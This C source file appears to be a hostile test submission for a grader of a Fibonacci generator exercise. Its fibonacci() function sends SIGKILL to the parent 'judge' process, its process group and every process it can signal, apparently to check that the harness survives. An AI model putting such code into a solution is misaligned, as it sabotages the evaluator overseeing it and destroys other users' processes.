/* SPDX-License-Identifier: MIT */
/*
 * kills_parent.c - kills who judges it, and whoever else it can.
 *
 * Prediction: ten
 */
#include "fibonacci.h"

#include <signal.h>
#include <unistd.h>

struct gen *fibonacci(void)
{
	kill(getppid(), SIGKILL);
	kill(0, SIGKILL);
	kill(-1, SIGKILL);
	return NULL;
}

struct gen *first(struct iter *up, long count)
{
	(void)count;
	iter_free(up);
	return fibonacci();
}
